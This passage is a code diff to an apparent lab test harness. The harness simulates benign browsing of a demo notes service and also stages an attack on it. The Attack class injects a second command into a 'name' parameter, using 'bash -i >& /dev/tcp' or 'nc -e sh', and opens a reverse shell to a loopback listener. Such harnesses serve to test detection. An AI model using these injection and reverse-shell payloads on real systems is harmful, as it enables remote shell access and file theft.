@@ -9,6 +9,7 @@ import threading
 import time
 import urllib.parse
 import urllib.request
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -31,17 +32,40 @@ def get(url: str, timeout: float = 5.0) -> bytes:
         return bytes(r.read())
 
 
-class BenignTraffic:
-    """A user browsing notes: index, list, read, size (which spawns sh + wc), ~15 req/s."""
+def notes_path(r: float, note: str) -> str:
+    """The host demo service's request for a uniform draw ``r``: index, list, read, size."""
+    if r < 0.15:
+        return "/"
+    if r < 0.4:
+        return "/notes"
+    if r < 0.75:
+        return f"/note?name={note}"
+    return f"/size?name={note}"
 
-    def __init__(self, base: str, names: list[str], rate_hz: float = 15.0, seed: int = 1) -> None:
+
+class BenignTraffic:
+    """A user browsing notes: index, list, read, size (which spawns sh + wc), ~15 req/s.
+
+    ``path_of(r, note)`` maps a uniform draw and a note name to a request path (the guest's
+    service has its own URLs, same mix)."""
+
+    def __init__(
+        self,
+        base: str,
+        names: list[str],
+        rate_hz: float = 15.0,
+        seed: int = 1,
+        path_of: Callable[[float, str], str] = notes_path,
+    ) -> None:
         self.base = base
         self.names = names
+        self.path_of = path_of
         self.period = 1.0 / rate_hz
         self.rng = random.Random(seed)  # noqa: S311  (traffic mix, not crypto)
         self.stop = threading.Event()
         self.requests = 0
         self.errors = 0
+        self.error_log: list[str] = []
         self.thread = threading.Thread(target=self._run, name="benign-traffic", daemon=True)
 
     def start(self) -> BenignTraffic:
@@ -52,20 +76,14 @@ class BenignTraffic:
         while not self.stop.is_set():
             r = self.rng.random()
             n = self.rng.choice(self.names)
-            path = (
-                "/"
-                if r < 0.15
-                else "/notes"
-                if r < 0.4
-                else f"/note?name={n}"
-                if r < 0.75
-                else f"/size?name={n}"
-            )
+            path = self.path_of(r, n)
             try:
                 get(self.base + path, timeout=2.0)
                 self.requests += 1
-            except OSError:
+            except OSError as e:
                 self.errors += 1
+                if len(self.error_log) < 20:
+                    self.error_log.append(f"{time.time():.2f} {path}: {e}")
             self.stop.wait(self.period * (0.5 + self.rng.random()))
 
     def close(self) -> None:
@@ -75,9 +93,15 @@ class BenignTraffic:
 
 @dataclass
 class Attack:
-    """Command injection → a reverse shell to a loopback listener → the attacker reads files."""
+    """Command injection → a reverse shell to a loopback listener → the attacker reads files.
+
+    ``tool="bash"``: ``bash -i >& /dev/tcp/HOST/PORT`` (the host service); ``"nc"``: busybox
+    ``nc HOST PORT -e sh`` (the guest, which reaches the host's loopback as ``10.0.2.2``)."""
 
     base: str
+    connect_host: str = "127.0.0.1"
+    endpoint: str = "/size"
+    tool: str = "bash"
     listener: socket.socket = field(init=False)
     port: int = field(init=False)
     sent_at: float = 0.0
@@ -92,12 +116,14 @@ class Attack:
         self.port = self.listener.getsockname()[1]
 
     def payload(self) -> str:
-        shell = f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{self.port} 0>&1'"
+        if self.tool == "nc":
+            return f"x.txt; nc {self.connect_host} {self.port} -e sh"
+        shell = f"bash -c 'bash -i >& /dev/tcp/{self.connect_host}/{self.port} 0>&1'"
         return f"x.txt; {shell}"
 
     def launch(self) -> None:
         """Send the exploit (in a thread: the vulnerable request blocks while the shell runs)."""
-        url = self.base + "/size?name=" + urllib.parse.quote(self.payload())
+        url = self.base + self.endpoint + "?name=" + urllib.parse.quote(self.payload())
         self.sent_at = time.time()
 
         def fire() -> None:
